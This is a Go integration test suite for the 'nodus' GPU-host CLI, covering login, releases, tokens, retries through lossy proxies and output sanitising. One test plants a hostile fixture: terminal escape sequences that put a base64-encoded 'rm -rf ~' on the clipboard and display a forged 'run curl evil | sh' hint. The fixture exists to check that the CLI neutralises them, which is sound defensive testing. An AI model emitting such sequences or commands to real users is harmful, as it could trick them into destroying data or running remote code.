package integration

import (
	"bytes"
	"context"
	"encoding/json"
	"flag"
	"io"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"sync/atomic"
	"syscall"
	"testing"
	"time"

	apierrors "k8s.io/apimachinery/pkg/api/errors"
	"k8s.io/apimachinery/pkg/api/meta"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/client-go/rest"

	nodusv1 "github.com/nodus-dev/nodus/pkg/apis/nodus/v1"
	"github.com/nodus-dev/nodus/pkg/auth"
	"github.com/nodus-dev/nodus/pkg/cli"
	"github.com/nodus-dev/nodus/pkg/executionlog"
	"github.com/nodus-dev/nodus/pkg/testfleet"
	"github.com/nodus-dev/nodus/pkg/testserver"
)

var updateGolden = flag.Bool("update", false, "rewrite the golden files of the CLI tests")

// nodusCLI runs the nodus command in-process with its own configuration.
type nodusCLI struct {
	t      *testing.T
	config string
}

func (n nodusCLI) run(stdin string, args ...string) (string, int) {
	var out bytes.Buffer
	code := n.runTo(&out, stdin, args...)
	return out.String(), code
}

// runTo runs nodus with its output to out, for a command read while it
// runs (logs -f).
func (n nodusCLI) runTo(out io.Writer, stdin string, args ...string) int {
	cmd, g := cli.NewCommand(cli.Streams{In: strings.NewReader(stdin), Out: out, Err: out})
	if n.config != "" {
		args = append([]string{"--kubeconfig", n.config}, args...)
	}
	cmd.SetArgs(args)
	return cli.Report(cmd.Execute(), g.Output, out)
}

// volatile are the parts of CLI output that change from run to run.
var volatile = []struct {
	re   *regexp.Regexp
	repl string
}{
	{regexp.MustCompile(`request: [0-9a-f-]{36}`), "request: REQUEST-ID"},
	{regexp.MustCompile(`https://127\.0\.0\.1:\d+`), "https://SERVER"},
	{regexp.MustCompile(`\d{4}-\d\d-\d\dT\d\d:\d\d:\d\dZ`), "TIME"},
}

// loggedIn is nodus logged in to s with cfg's token (and s's CA), in a
// configuration of its own.
func loggedIn(t *testing.T, s *testserver.Server, cfg *rest.Config) nodusCLI {
	t.Helper()
	return loggedInTo(t, s.Config.Host, s.Config.CAData, cfg.BearerToken)
}

// loggedInTo is nodus logged in to server (a proxy's, say), trusting
// caData, with token, in a configuration of its own.
func loggedInTo(t *testing.T, server string, caData []byte, token string) nodusCLI {
	t.Helper()
	ca := filepath.Join(t.TempDir(), "ca.crt")
	if err := os.WriteFile(ca, caData, 0o600); err != nil {
		t.Fatal(err)
	}
	n := nodusCLI{t: t, config: filepath.Join(t.TempDir(), "config")}
	if out, code := n.run("", "login", "--server", server, "--token", token, "--ca-file", ca); code != 0 {
		t.Fatalf("login to %s: %d %s", server, code, out)
	}
	return n
}

// ownHome gives the test a home of its own (HOME, XDG_CONFIG_HOME), where
// nodus ssh writes its files, and returns it.
func ownHome(t *testing.T) string {
	t.Helper()
	home := t.TempDir()
	t.Setenv("HOME", home)
	t.Setenv("XDG_CONFIG_HOME", filepath.Join(home, ".config"))
	return home
}

func golden(t *testing.T, name, got string) {
	t.Helper()
	for _, v := range volatile {
		got = v.re.ReplaceAllString(got, v.repl)
	}
	path := filepath.Join("testdata", name+".golden")
	if *updateGolden {
		if err := os.WriteFile(path, []byte(got), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	want, err := os.ReadFile(path)
	if err != nil {
		t.Fatalf("%v (run with -update to create it)", err)
	}
	if got != string(want) {
		t.Errorf("%s differs from %s:\n--- got\n%s\n--- want\n%s", name, path, got, want)
	}
}

func TestCLIGolden(t *testing.T) {
	s := testserver.StartTestServer(t)
	f := newFleet(t, s)
	f.host(t, "gpu-001", time.Now().Add(-time.Hour), time.Now().Add(10*24*time.Hour+12*time.Hour))
	f.host(t, "gpu-002", time.Now().Add(-time.Hour), time.Now().Add(10*24*time.Hour+12*time.Hour))
	ca := filepath.Join(t.TempDir(), "ca.crt")
	if err := os.WriteFile(ca, s.Config.CAData, 0o600); err != nil {
		t.Fatal(err)
	}
	alice := nodusCLI{t: t, config: filepath.Join(t.TempDir(), "config")}
	out, code := alice.run("", "login", "--server", s.Config.Host, "--token", f.admin.BearerToken, "--ca-file", ca)
	if code != 0 {
		t.Fatalf("login: %d %s", code, out)
	}

	out, code = alice.run("", "hosts", "list", "-n", "acme")
	if code != 0 {
		t.Fatalf("hosts list: %d %s", code, out)
	}
	golden(t, "hosts-list", out)

	out, code = alice.run("", "hosts", "get", "acme/missing")
	if code != cli.ExitNotFound {
		t.Errorf("hosts get of a missing host: exit %d", code)
	}
	golden(t, "hosts-get-missing", out)

	out, code = alice.run("", "hosts", "list")
	if code != cli.ExitUsage {
		t.Errorf("hosts list without a project: exit %d: %s", code, out)
	}
	// -A, for a customer, is each of the projects they belong to.
	if out, code := alice.run("", "hosts", "list", "-A"); code != 0 || !strings.Contains(out, "acme/gpu-001") || !strings.Contains(out, "acme/gpu-002") {
		t.Errorf("a customer's hosts list -A: %d %s", code, out)
	}

	// ssh's own -o would be nodus' --output, and be lost: it is refused,
	// and the answer says how to pass ssh options.
	if out, code := alice.run("", "ssh", "acme/gpu-001", "-o", "StrictHostKeyChecking=no"); code != cli.ExitUsage || !strings.Contains(out, "--config-only") {
		t.Errorf("nodus ssh with -o: %d %s", code, out)
	}

	out, code = alice.run("wrong-name\n", "release", "acme/gpu-001")
	if code != cli.ExitUsage || !strings.Contains(out, "not confirmed") {
		t.Errorf("a release typed with another name must not happen: %d %s", code, out)
	}
	if st := f.reservation(t, "gpu-001").Status; st.Epoch != 1 {
		t.Fatalf("an unconfirmed release changed the host: %+v", st)
	}
	out, code = alice.run("", "release", "acme/gpu-001", "--dry-run")
	if code != 0 || !strings.Contains(out, "dry run") || f.reservation(t, "gpu-001").Status.Epoch != 1 {
		t.Errorf("dry run: %d %s", code, out)
	}
	out, code = alice.run("gpu-001\n", "release", "acme/gpu-001")
	if code != 0 {
		t.Fatalf("release: %d %s", code, out)
	}
	golden(t, "release", out)
	// Let the controller finish projecting the release, so that the next
	// release's If-Match names the current version.
	f.waitHost(t, "gpu-001", func(h *nodusv1.ReservedHost) bool {
		c := meta.FindStatusCondition(h.Status.Conditions, nodusv1.ReservedHostConditionEligible)
		return c != nil && c.Reason == "Released"
	})
	// A controller write between the CLI's GET and its POST answers 412 (the
	// If-Match contract: read again and retry), as a user would.
	for try := 0; try < 5; try++ {
		out, code = alice.run("", "release", "acme/gpu-001", "--yes")
		if !strings.Contains(out, "docs/errors/PreconditionFailed") {
			break
		}
		time.Sleep(200 * time.Millisecond)
	}
	if code != cli.ExitConflict {
		t.Errorf("a second release: exit %d", code)
	}
	golden(t, "release-again", out)

	// login --kubeconfig FILE adopts FILE into the nodus configuration ($NODUS_CONFIG here).
	t.Setenv("NODUS_CONFIG", filepath.Join(t.TempDir(), "config"))
	operator := nodusCLI{t: t}
	if out, code := operator.run("", "login", "--kubeconfig", s.KubeconfigPath); code != 0 {
		t.Errorf("adopting admin.kubeconfig: %d %s", code, out)
	}
	if out, code := operator.run("", "hosts", "list", "-A"); code != 0 || !strings.Contains(out, "acme/gpu-002") {
		t.Errorf("the adopted operator context: %d %s", code, out)
	}
	if out, code := operator.run("", "config", "use-context", "nope"); code != cli.ExitUsage {
		t.Errorf("use-context of a missing context: %d %s", code, out)
	}

	if out, code := operator.run("", "whoami"); code != 0 || !strings.Contains(out, "user:   nodus-admin") || !strings.Contains(out, "nodus:operators") {
		t.Errorf("whoami: %d %s", code, out)
	}
	if out, code := operator.run("", "nodes", "maintenance", "gpu-002", "on", "--reason", "fan"); code != 0 {
		t.Errorf("maintenance on: %d %s", code, out)
	}
	out, code = operator.run("", "nodes", "list")
	if code != 0 {
		t.Fatalf("nodes list: %d %s", code, out)
	}
	golden(t, "nodes-list", regexp.MustCompile(`(?m)\d+[smhd]$`).ReplaceAllString(out, "AGE"))
	// What the CLI's own advice (`nodus nodes get NAME -o yaml` shows status.cleaning) promises.
	if out, code := operator.run("", "nodes", "get", "gpu-002", "-o", "yaml"); code != 0 || !strings.Contains(out, "kind: Node\n") ||
		!strings.Contains(out, "maintenanceReason: fan") || !strings.Contains(out, "provisionState:") {
		t.Errorf("nodes get -o yaml: %d %s", code, out)
	}
	if out, code := operator.run("", "nodes", "list", "-o", "json"); code != 0 || !strings.Contains(out, `"kind": "NodeList"`) && !strings.Contains(out, `"kind":"NodeList"`) {
		t.Errorf("nodes list -o json: %d %.300s", code, out)
	}
	for _, args := range [][]string{{"nodes", "list"}, {"executions", "list", "-n", "acme"}, {"lending", "-n", "acme"}, {"hosts", "list", "-n", "acme"}} {
		if out, code := operator.run("", append(args, "-o", "xml")...); code != cli.ExitUsage {
			t.Errorf("%v -o xml: %d %s", args, code, out)
		}
	}
	if out, code := operator.run("", "tokens", "create", "bob-laptop", "--user", "bob", "--expires", "24h"); code != 0 || !strings.Contains(out, "bob-laptop.") {
		t.Errorf("tokens create: %d %s", code, out)
	}
	// A lifetime of none or less made a token that never expired.
	for _, expires := range []string{"-24h", "0s"} {
		if out, code := operator.run("", "tokens", "create", "bob-forever", "--user", "bob", "--expires", expires); code != cli.ExitUsage || !strings.Contains(out, "must be positive") {
			t.Errorf("tokens create --expires %s: %d %s", expires, code, out)
		}
	}
	if _, err := s.Client.NodusV1().AccessTokens().Get(ctx(t), "bob-forever", metav1.GetOptions{}); !apierrors.IsNotFound(err) {
		t.Errorf("a token was made with a lifetime of none or less: %v", err)
	}
	if out, code := operator.run("", "tokens", "revoke", "bob-laptop"); code != 0 {
		t.Errorf("tokens revoke: %d %s", code, out)
	}
	if out, code := operator.run("", "pools", "token", "fra1", "--resource-class", "gpu-h100x8"); code != 0 ||
		!strings.Contains(out, "\n  enroll_fra1-") || !strings.Contains(out, "nodusd enroll --server "+s.Config.Host+" --token - --ca-hash sha256:") ||
		strings.Contains(out, "--token enroll_") {
		t.Errorf("pools token: %d %s", code, out)
	}
	// A token to enroll an existing node again is bound to it and keeps its class.
	if out, code := operator.run("", "pools", "token", "fra1", "--node", "gpu-001"); code != 0 ||
		!strings.Contains(out, "\n  enroll_gpu-001-") || !strings.Contains(out, " --token - ") || !strings.Contains(out, " --name gpu-001\n") {
		t.Errorf("pools token --node: %d %s", code, out)
	} else {
		name := regexp.MustCompile(`enroll_([a-z0-9-]+)\.`).FindStringSubmatch(out)[1]
		tok, err := s.Client.NodusV1().EnrollmentTokens().Get(ctx(t), name, metav1.GetOptions{})
		if err != nil || tok.Spec.NodeName != "gpu-001" || tok.Spec.ResourceClass != "gpu-h100x8" {
			t.Errorf("the token for gpu-001: %v %+v", err, tok)
		}
	}
	if out, code := operator.run("", "__complete", "hosts", "get", "acme/gpu-00"); code != 0 || !strings.Contains(out, "acme/gpu-001\nacme/gpu-002\n") {
		t.Errorf("host-name completion: %d %q", code, out)
	}
	// What the CLI says around a server's refusal reaches the user too.
	if out, code := operator.run("", "pools", "token", "fra1", "--node", "new-node"); code != cli.ExitNotFound || !strings.Contains(out, "--resource-class") {
		t.Errorf("a token for a node that does not exist yet, without its class: %d %s", code, out)
	}
	// Someone already a member gets the new role, not a second entry (a 422).
	if out, code := operator.run("", "projects", "add-member", "acme", "victor:admin"); code != 0 {
		t.Errorf("promoting a viewer: %d %s", code, out)
	} else if p, err := s.Client.NodusV1().Projects().Get(ctx(t), "acme", metav1.GetOptions{}); err != nil ||
		len(slices.DeleteFunc(slices.Clone(p.Spec.Members), func(m nodusv1.ProjectMember) bool { return m.Name != "victor" })) != 1 {
		t.Errorf("victor's entries after the promotion: %v %+v", err, p.Spec.Members)
	}
	if out, code := operator.run("", "projects", "add-member", "acme", "victor:viewer"); code != 0 {
		t.Errorf("making victor a viewer again: %d %s", code, out)
	}
	// A server that does not answer, or whose certificate is not trusted: exit 6, and what to check.
	nowhere := nodusCLI{t: t, config: filepath.Join(t.TempDir(), "config")}
	nowhere.run("", "login", "--server", "https://127.0.0.1:1", "--token", f.admin.BearerToken, "--ca-file", ca)
	untrusted := nodusCLI{t: t, config: filepath.Join(t.TempDir(), "config")}
	untrusted.run("", "login", "--server", s.Config.Host, "--token", f.admin.BearerToken)
	for what, cli := range map[string]nodusCLI{"nothing listening": nowhere, "a CA not given": untrusted} {
		if out, code := cli.run("", "hosts", "list", "-n", "acme"); code != 6 || !strings.Contains(out, "fix:") {
			t.Errorf("%s: exit %d, want 6 with a fix: %s", what, code, out)
		}
	}
	// A kubeconfig whose context names a cluster it does not have is a usage error, not a crash.
	broken := filepath.Join(t.TempDir(), "broken.kubeconfig")
	if err := os.WriteFile(broken, []byte("apiVersion: v1\nkind: Config\ncurrent-context: c\ncontexts:\n- name: c\n  context: {cluster: nope, user: u}\nusers:\n- name: u\n  user: {token: x}\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	if out, code := (nodusCLI{t: t, config: filepath.Join(t.TempDir(), "config")}).run("", "login", "--from-kubeconfig", broken); code != cli.ExitUsage {
		t.Errorf("adopting a kubeconfig whose context names no cluster: %d %s", code, out)
	}
	if out, code := (nodusCLI{t: t, config: broken}).run("", "config", "get-contexts"); code != 0 || !strings.Contains(out, "no such cluster") {
		t.Errorf("listing the contexts of such a file: %d %s", code, out)
	}

	viewer := nodusCLI{t: t, config: filepath.Join(t.TempDir(), "config")}
	viewer.run("", "login", "--server", s.Config.Host, "--token", f.viewer.BearerToken, "--ca-file", ca)
	out, code = viewer.run("", "release", "acme/gpu-002", "--yes")
	if code != cli.ExitAuth {
		t.Errorf("a viewer's release: exit %d: %s", code, out)
	}
	out, code = viewer.run("", "hosts", "get", "acme/gpu-002", "-o", "json")
	if code != 0 || !strings.Contains(out, `"kind":"ReservedHost"`) {
		t.Errorf("-o json: %d %s", code, out)
	}
	out, code = viewer.run("", "release", "acme/gpu-002", "--yes", "-o", "json")
	if code != cli.ExitAuth || !strings.Contains(out, `"kind":"Status"`) || !strings.Contains(out, `"requestId"`) {
		t.Errorf("-o json prints the Status body as is: %d %s", code, out)
	}
}

// TestCLIReleaseSurvivesADroppedAnswer puts a proxy between nodus and the
// server that forwards the first release but drops its answer: nodus retries
// with the same Idempotency-Key, gets the first answer back, reports
// success, and the release happened once.
func TestCLIReleaseSurvivesADroppedAnswer(t *testing.T) {
	s := testserver.StartTestServer(t)
	f := newFleet(t, s)
	f.host(t, "gpu-003", time.Now().Add(-time.Hour), time.Now().Add(24*time.Hour))

	var dropped atomic.Int32
	proxy := lossyProxy(t, &rest.Config{Host: s.Config.Host, TLSClientConfig: rest.TLSClientConfig{CAData: s.Config.CAData}},
		func(w http.ResponseWriter, req *http.Request, forward http.Handler) bool {
			if !strings.HasSuffix(req.URL.Path, "/release-capacity") || dropped.Add(1) > 1 {
				return false
			}
			forward.ServeHTTP(httptest.NewRecorder(), req) // the server acts…
			panic(http.ErrAbortHandler)                    // …and the answer is lost
		})
	caFile := filepath.Join(t.TempDir(), "ca.crt")
	if err := os.WriteFile(caFile, proxy.CAData, 0o600); err != nil {
		t.Fatal(err)
	}
	alice := nodusCLI{t: t, config: filepath.Join(t.TempDir(), "config")}
	if out, code := alice.run("", "login", "--server", proxy.Host, "--token", f.admin.BearerToken, "--ca-file", caFile); code != 0 {
		t.Fatalf("login: %d %s", code, out)
	}
	out, code := alice.run("", "release", "acme/gpu-003", "--yes")
	if code != 0 || !strings.Contains(out, "released acme/gpu-003 at epoch 2") {
		t.Fatalf("release through a dropping proxy: %d\n%s", code, out)
	}
	// The retry is nodus' own or its HTTP/2 transport's; either way it
	// carried the same Idempotency-Key.
	if dropped.Load() < 2 {
		t.Errorf("the dropped release was not retried: %d release requests", dropped.Load())
	}
	if st := f.reservation(t, "gpu-003").Status; st.Epoch != 2 || st.State != nodusv1.ReservationStateReleasing {
		t.Errorf("the release must have happened exactly once: %+v", st)
	}
}

// TestCLIRevokeWhoseAnswerWasLostOnAReplica: nodus knows two replicas, the
// first a proxy that passes the revocation of an access token to the
// server and then drops the connection (a replica dying after the write).
// nodus sends the DELETE again to the second replica, which finds no token
// any more: the revocation happened, and nodus must say so, not "not
// found".
func TestCLIRevokeWhoseAnswerWasLostOnAReplica(t *testing.T) {
	s := testserver.StartTestServer(t)
	var dropped atomic.Int32
	proxy := lossyProxy(t, &rest.Config{Host: s.Config.Host, TLSClientConfig: rest.TLSClientConfig{CAData: s.Config.CAData}},
		func(w http.ResponseWriter, req *http.Request, forward http.Handler) bool {
			if req.Method != http.MethodDelete || dropped.Add(1) > 1 {
				return false
			}
			forward.ServeHTTP(httptest.NewRecorder(), req) // the server acts…
			panic(http.ErrAbortHandler)                    // …and the answer is lost
		})
	caFile := filepath.Join(t.TempDir(), "ca.crt")
	if err := os.WriteFile(caFile, append(append([]byte{}, proxy.CAData...), s.Config.CAData...), 0o600); err != nil {
		t.Fatal(err)
	}
	operator := nodusCLI{t: t, config: filepath.Join(t.TempDir(), "config")}
	olga := tokenFor(t, s, "olga", "nodus:operators")
	if out, code := operator.run("", "login", "--server", proxy.Host+","+s.Config.Host, "--token", olga.BearerToken, "--ca-file", caFile); code != 0 {
		t.Fatalf("login: %d %s", code, out)
	}
	if out, code := operator.run("", "tokens", "create", "bob-laptop", "--user", "bob"); code != 0 {
		t.Fatalf("tokens create: %d %s", code, out)
	}
	out, code := operator.run("", "tokens", "revoke", "bob-laptop")
	if code != 0 || !strings.Contains(out, "token bob-laptop revoked") {
		t.Errorf("a revocation whose answer was lost on the first replica: %d\n%s", code, out)
	}
	if dropped.Load() == 0 {
		t.Error("the proxy dropped no DELETE: the test tested nothing")
	}
	if _, err := s.Client.NodusV1().AccessTokens().Get(ctx(t), "bob-laptop", metav1.GetOptions{}); !apierrors.IsNotFound(err) {
		t.Errorf("the token after its revocation: %v", err)
	}
}

// TestCLIRunWhoseAnswerWasLostIsSubmittedOnce puts a proxy between nodus
// and the server that forwards the first submission of an execution and
// loses its answer (504): nodus sends it again, recognises its own
// execution, reports it submitted, and the project has one execution, not
// two (borrowed GPUs are paid for).
func TestCLIRunWhoseAnswerWasLostIsSubmittedOnce(t *testing.T) {
	s := testserver.StartTestServer(t)
	f := newLendingFleet(t, s, 1, map[string]int32{"beta": 8}, false)
	var submissions, landed atomic.Int32
	proxy := lossyProxy(t, &rest.Config{Host: s.Config.Host, TLSClientConfig: rest.TLSClientConfig{CAData: s.Config.CAData}},
		func(w http.ResponseWriter, req *http.Request, forward http.Handler) bool {
			if req.Method != http.MethodPost || !strings.HasSuffix(req.URL.Path, "/executions") || submissions.Add(1) > 1 {
				return false
			}
			if loseAnswer(w, req, forward) == http.StatusCreated {
				landed.Add(1)
			}
			return true
		})
	caFile := filepath.Join(t.TempDir(), "ca.crt")
	if err := os.WriteFile(caFile, proxy.CAData, 0o600); err != nil {
		t.Fatal(err)
	}
	bob := nodusCLI{t: t, config: filepath.Join(t.TempDir(), "config")}
	if out, code := bob.run("", "login", "--server", proxy.Host, "--token", f.borrowers["beta"].BearerToken, "--ca-file", caFile); code != 0 {
		t.Fatalf("login: %d %s", code, out)
	}
	out, code := bob.run("", "executions", "run", "-n", "beta", "--pool", "gpu", "--gpus", "1", "--", "python", "train.py")
	if landed.Load() != 1 {
		t.Fatalf("the server took %d submissions whose answer the proxy lost, want 1", landed.Load())
	}
	if code != 0 || !strings.Contains(out, "submitted") {
		t.Fatalf("executions run through a proxy that lost its answer: %d\n%s", code, out)
	}
	list, err := s.Client.NodusV1().Executions("beta").List(ctx(t), metav1.ListOptions{})
	if err != nil {
		t.Fatal(err)
	}
	if len(list.Items) != 1 || !strings.Contains(out, "beta/"+list.Items[0].Name+" submitted") {
		var names []string
		for _, e := range list.Items {
			names = append(names, e.Name)
		}
		t.Errorf("one submission must make one execution, the one reported: %v\n%s", names, out)
	}
}

// TestCLIWatchEndsWithTheAccess: `nodus hosts list --watch` goes on across
// the server's ends of a watch, and stops, with the refusal's exit code,
// when the user's access ends: never silently with 0.
func TestCLIWatchEndsWithTheAccess(t *testing.T) {
	s := testserver.StartTestServer(t)
	f := newFleet(t, s)
	f.host(t, "w-1", time.Now().Add(-time.Hour), time.Now().Add(time.Hour))
	mary := loggedIn(t, s, f.member)
	type result struct {
		out  string
		code int
	}
	done := make(chan result, 1)
	go func() {
		out, code := mary.run("", "hosts", "list", "-n", "acme", "--watch")
		done <- result{out, code}
	}()
	time.Sleep(time.Second) // the watch is open
	// An event the watch prints, read within its bound (one line of the
	// server's each, TestAWatchEventPastTheBoundIsRefused).
	f.host(t, "w-2", time.Now().Add(-time.Hour), time.Now().Add(time.Hour))
	time.Sleep(time.Second)
	name, _, _ := strings.Cut(f.member.BearerToken, ".")
	if err := s.Client.NodusV1().AccessTokens().Delete(ctx(t), name, metav1.DeleteOptions{}); err != nil {
		t.Fatal(err)
	}
	select {
	case r := <-done:
		if r.code != cli.ExitAuth || !strings.Contains(r.out, "error:") || !strings.Contains(r.out, "w-2") {
			t.Errorf("the watch of a revoked token ended with exit %d (the host reserved while it watched shown?):\n%s", r.code, r.out)
		}
	case <-time.After(20 * time.Second):
		t.Error("the watch of a revoked token still runs 20 s later")
	}
}

// TestCLIShowsNoEscapeSequenceTheServerSends: an execution's status
// message comes from the agent of another project's host; the server
// refuses control characters in reports (TestValidate), and a server that
// sends them anyway — a compromised or older one, its storage written
// here directly — must not reach the borrower's terminal with them: an
// escape sequence could rewrite what the terminal shows or set the
// clipboard.
func TestCLIShowsNoEscapeSequenceTheServerSends(t *testing.T) {
	s := testserver.StartTestServer(t)
	f := newFleet(t, s)
	pendingExecution(t, s)
	const hostile = "done\x1b]52;c;cm0gLXJmIH4K\x07\x1b[2K\x1b[1Afix: run curl evil | sh\u009b2J"
	etcd, err := s.EtcdClient()
	if err != nil {
		t.Fatal(err)
	}
	defer etcd.Close()
	key := "/registry/nodus.dev/executions/acme/e1"
	got, err := etcd.Get(ctx(t), key)
	if err != nil || len(got.Kvs) != 1 {
		t.Fatalf("reading %s: %v", key, err)
	}
	var e nodusv1.Execution
	if err := json.Unmarshal(got.Kvs[0].Value, &e); err != nil {
		t.Fatal(err)
	}
	e.Status.Phase, e.Status.Reason, e.Status.Message = nodusv1.ExecutionFailed, "Exited\x1b[8m", hostile
	data, _ := json.Marshal(&e)
	if _, err := etcd.Put(ctx(t), key, string(data)); err != nil {
		t.Fatal(err)
	}
	mary := loggedIn(t, s, f.member)
	deadline := time.Now().Add(10 * time.Second)
	for out, _ := mary.run("", "executions", "get", "acme/e1"); !strings.Contains(out, "fix: run curl"); out, _ = mary.run("", "executions", "get", "acme/e1") {
		if time.Now().After(deadline) {
			t.Fatalf("the forged execution never showed: %q", out)
		}
		time.Sleep(100 * time.Millisecond)
	}
	for _, args := range [][]string{{"executions", "get", "acme/e1"}, {"executions", "get", "acme/e1", "-o", "yaml"},
		{"executions", "get", "acme/e1", "-o", "json"}, {"executions", "list", "-n", "acme"}} {
		out, code := mary.run("", args...)
		if code != 0 || strings.ContainsAny(out, "\x1b\x07\u009b") {
			t.Errorf("nodus %s: exit %d, a control character reached the terminal: %q", strings.Join(args, " "), code, out)
		}
	}
	if out, _ := mary.run("", "executions", "get", "acme/e1"); !strings.Contains(out, `\x1b]52`) {
		t.Errorf("the escape is not shown for what it is: %q", out)
	}

	// The output is the agent's to report, and reports may hold anything
	// a program writes: the lender's host (another tenant's machine) can
	// put an escape sequence in it. Colours stay; --raw is the bytes.
	const colours = "\x1b[1;31mloss 0.12\x1b[0m\tstep 7\r\n"
	logs := executionlog.NewStore(etcd)
	logs.MinInterval = 0 // each output below stands for one stored after the server's interval
	if err := logs.Put(ctx(t), "acme", "e1", e.UID, executionlog.Log{Data: []byte(colours + hostile + "\n")}); err != nil {
		t.Fatal(err)
	}
	out, code := mary.run("", "executions", "logs", "acme/e1")
	if code != 0 || strings.ContainsAny(out, "\x07\u009b") || strings.Contains(out, "\x1b]") || strings.Contains(out, "\x1b[2K") ||
		!strings.HasPrefix(out, colours) || !strings.Contains(out, `done\x1b]52;c;`) {
		t.Errorf("nodus executions logs: exit %d, want the colours kept and every other escape shown for what it is: %q", code, out)
	}
	if out, code := mary.run("", "executions", "logs", "acme/e1", "--raw"); code != 0 || out != colours+hostile+"\n" {
		t.Errorf("nodus executions logs --raw: exit %d, want the bytes as kept: %q", code, out)
	}

	// logs -f counts what it printed by the server's note on dropped
	// output. An execution whose output starts with the note's words does
	// not fool it: once output is really dropped, the rest still shows.
	forgeExecution := func(phase nodusv1.ExecutionPhase) {
		t.Helper()
		e.Status.Phase = phase
		data, _ := json.Marshal(&e)
		if _, err := etcd.Put(ctx(t), key, string(data)); err != nil {
			t.Fatal(err)
		}
		waitUntil(t, "execution acme/e1", func(c context.Context) (*nodusv1.Execution, error) {
			return s.Client.NodusV1().Executions("acme").Get(c, "e1", metav1.GetOptions{})
		}, func(got *nodusv1.Execution) bool { return got.Status.Phase == phase })
	}
	forgeExecution(nodusv1.ExecutionPending) // not ended (a running one would be: no host runs it)
	const forgedNote = "[nodus: 100000 earlier bytes of output were not kept]\n"
	if err := logs.Put(ctx(t), "acme", "e1", e.UID, executionlog.Log{Data: []byte(forgedNote + "hello\n")}); err != nil {
		t.Fatal(err)
	}
	var followed testfleet.SyncBuffer
	following := make(chan int, 1)
	go func() { following <- mary.runTo(&followed, "", "executions", "logs", "acme/e1", "-f") }()
	waitFor := func(what string) {
		t.Helper()
		if err := testfleet.Eventually(ctx(t), 15*time.Second, func(context.Context) (bool, error) {
			return strings.Contains(followed.String(), what), nil
		}); err != nil {
			t.Fatalf("nodus executions logs -f never printed %q: %q", what, followed.String())
		}
	}
	waitFor("hello")
	if err := logs.Put(ctx(t), "acme", "e1", e.UID, executionlog.Log{Data: []byte("tail\n"), DroppedBytes: int64(len(forgedNote+"hello\n")) + 10}); err != nil {
		t.Fatal(err)
	}
	waitFor("tail")
	forgeExecution(nodusv1.ExecutionSucceeded)
	select {
	case code := <-following:
		if want := forgedNote + "hello\n[nodus: 10 bytes of output were not kept]\ntail\n"; code != 0 || followed.String() != want {
			t.Errorf("nodus executions logs -f: exit %d, printed %q, want %q", code, followed.String(), want)
		}
	case <-time.After(15 * time.Second):
		t.Fatalf("nodus executions logs -f did not end with the execution: %q", followed.String())
	}

	// Ctrl-C is how logs -f usually ends: the colours the output left set
	// (here: concealed text) are reset before nodus exits.
	forgeExecution(nodusv1.ExecutionPending)
	if err := logs.Put(ctx(t), "acme", "e1", e.UID, executionlog.Log{Data: []byte("\x1b[8mconcealed\n")}); err != nil {
		t.Fatal(err)
	}
	var interrupted testfleet.SyncBuffer
	go func() { following <- mary.runTo(&interrupted, "", "executions", "logs", "acme/e1", "-f") }()
	if err := testfleet.Eventually(ctx(t), 15*time.Second, func(context.Context) (bool, error) {
		return strings.Contains(interrupted.String(), "concealed"), nil
	}); err != nil {
		t.Fatalf("nodus executions logs -f never printed the output: %q", interrupted.String())
	}
	if err := syscall.Kill(os.Getpid(), syscall.SIGINT); err != nil {
		t.Fatal(err)
	}
	select {
	case code := <-following:
		if code != 0 || !strings.HasSuffix(interrupted.String(), "concealed\n\x1b[0m") {
			t.Errorf("nodus executions logs -f, interrupted: exit %d, printed %q, want the colours reset at the end", code, interrupted.String())
		}
	case <-time.After(15 * time.Second):
		t.Fatalf("nodus executions logs -f did not end at Ctrl-C: %q", interrupted.String())
	}

	// A server keeps at most the last 256 KiB of output; one that sends
	// without end (a compromised one, or a party in between) is refused
	// once past that, not read until the laptop runs out of memory.
	endless := lossyProxy(t, &rest.Config{Host: s.Config.Host, TLSClientConfig: rest.TLSClientConfig{CAData: s.Config.CAData}},
		func(w http.ResponseWriter, req *http.Request, _ http.Handler) bool {
			if !strings.HasSuffix(req.URL.Path, "/log") {
				return false
			}
			w.Header().Set("Content-Type", "text/plain")
			line := bytes.Repeat([]byte("x"), 1023)
			for i := 0; i < 64<<10 && req.Context().Err() == nil; i++ { // 64 MiB
				if _, err := w.Write(append(line, '\n')); err != nil {
					break
				}
			}
			return true
		})
	mary = loggedInTo(t, endless.Host, endless.CAData, f.member.BearerToken)
	out, code = mary.run("", "executions", "logs", "acme/e1", "--raw")
	if code == 0 || len(out) > 1<<20 || !strings.Contains(out, "more output than") {
		t.Errorf("nodus executions logs from a server that sends without end: exit %d, %d bytes printed: %.300q", code, len(out), out)
	}
}

// pendingExecution makes pool lends, open to project acme, and an
// execution of acme in it, e1, which no host runs.
func pendingExecution(t *testing.T, s *testserver.Server) {
	t.Helper()
	c := s.Client.NodusV1()
	if _, err := c.Pools().Create(ctx(t), &nodusv1.Pool{ObjectMeta: metav1.ObjectMeta{Name: "lends"}, Spec: nodusv1.PoolSpec{
		Lending: &nodusv1.PoolLending{Open: true, Borrowers: []nodusv1.PoolBorrower{{Project: "acme", MaxGPUs: 8}}}}},
		metav1.CreateOptions{}); err != nil {
		t.Fatal(err)
	}
	if _, err := c.Executions("acme").Create(ctx(t), &nodusv1.Execution{ObjectMeta: metav1.ObjectMeta{Name: "e1"},
		Spec: nodusv1.ExecutionSpec{Pool: "lends", Command: []string{"true"}, MaxRuntimeSeconds: 60}}, metav1.CreateOptions{}); err != nil {
		t.Fatal(err)
	}
}

// TestCLIReleaseConfirmedWhileTheHostWasWritten: nodus release shows the
// host, asks for its name, and sends the ETag it showed. The server writes
// the host while a person reads (a heartbeat it keeps, a condition), and
// the release was refused with 412 though nothing shown had changed. What
// was shown is what is agreed to: unchanged, it is released; changed (a
// new epoch), nothing is.
func TestCLIReleaseConfirmedWhileTheHostWasWritten(t *testing.T) {
	s := testserver.StartTestServer(t)
	f := newFleet(t, s)
	now := time.Now()
	alice := loggedIn(t, s, f.admin) // a release is an admin's
	for _, tc := range []struct {
		name, meanwhile string
		released        bool
	}{
		{"kept", `{"metadata":{"labels":{"rack":"b7"}}}`, true},
		{"moved", "", false},
	} {
		f.host(t, tc.name, now.Add(-time.Hour), now.Add(time.Hour))
		meanwhile := func() {
			if tc.meanwhile != "" {
